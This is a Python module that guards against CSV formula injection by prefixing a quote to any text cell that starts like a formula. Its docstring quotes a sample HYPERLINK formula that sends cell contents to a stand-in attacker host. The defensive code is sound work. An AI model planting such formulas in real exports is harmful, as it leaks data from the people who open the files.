"""Every CSV the product writes goes through `writer`, so no cell can run as a spreadsheet formula.

A cell opened in Excel, LibreOffice or Google Sheets that starts with `=`, `+`, `-` or `@` (or a tab or
carriage return before one) is read as a formula: text from a mention or a draft such as
`=HYPERLINK("https://evil.example/?"&A1, "Click")` would run on the reader's machine. As OWASP's CSV
injection guidance says, such a cell is prefixed with a single quote, which spreadsheets show as text; the
csv module already doubles embedded quotes and quotes cells holding separators or line breaks. Numbers
(ints, floats) are written as they are: only text can carry a formula.
"""

import csv
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """The value to write in a cell: text that a spreadsheet would read as a formula gets a leading quote."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeWriter:
    """csv.writer's writerow and writerows, with every cell neutralised first."""

    def __init__(self, out, **options):
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow([neutralise(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out, **options) -> SafeWriter:
    """A CSV writer for files people open in a spreadsheet (options as csv.writer's)."""
    return SafeWriter(out, **options)
